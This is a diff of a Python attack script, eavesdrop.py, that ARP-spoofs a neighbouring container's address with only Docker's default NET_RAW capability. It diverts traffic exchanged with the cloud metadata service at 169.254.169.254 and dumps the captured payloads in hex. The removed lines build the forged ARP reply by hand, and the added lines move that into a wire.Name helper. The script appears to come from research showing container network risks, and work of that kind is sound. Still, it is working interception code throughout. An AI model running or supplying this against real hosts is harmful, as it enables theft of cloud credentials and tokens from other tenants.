@@ -1,32 +1,23 @@
 """Claims a neighbour's address for some seconds and writes down every answer of the metadata service that comes by.
 
-eavesdrop.py MODE VICTIM-IP VICTIM-MAC GATEWAY-IP SECONDS, with no more than Docker's default capabilities (NET_RAW).
-MODE is the hardware address it claims it with: "own", an "invented" one, or the "victim"'s.
-Prints the number of diverted frames and, in hex, all their data.
+eavesdrop.py MODE VICTIM-IP VICTIM-MAC GATEWAY SECONDS, with no more than Docker's default capabilities (NET_RAW); see
+wire.Name. Prints the number of diverted frames and, in hex, all their data.
 """
-import socket
-import struct
 import sys
 import time
 
-from wire import gateway_mac, sender, wire
+from wire import Name, wire
 
-mode, victim, victim_mac, gateway, seconds = sys.argv[1:6]
-METADATA = socket.inet_aton("169.254.169.254")
-source = sender(mode, victim_mac)
+name = Name(*sys.argv[1:5])
 wire.settimeout(0.005)
-door = gateway_mac(gateway)
-claim = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2) + source + socket.inet_aton(victim) + door + socket.inet_aton(gateway)
-frames, heard, end = 0, b"", time.time() + float(seconds)
+frames, heard, end = 0, b"", time.time() + float(sys.argv[5])
 while time.time() < end:
-    wire.send(door + source + b"\x08\x06" + claim)
+    name.claim()
     try:
-        frame = wire.recv(65535)
+        segment = name.heard(wire.recv(65535))
     except TimeoutError:
         continue
-    if frame[12:14] != b"\x08\x00" or frame[23] != 6 or frame[26:30] != METADATA:
-        continue
-    frames += 1
-    start = 14 + (frame[14] & 15) * 4
-    heard += frame[start + (frame[start + 12] >> 4) * 4:14 + struct.unpack("!H", frame[16:18])[0]]
+    if segment:
+        frames += 1
+        heard += segment[3]
 print(frames, heard.hex())
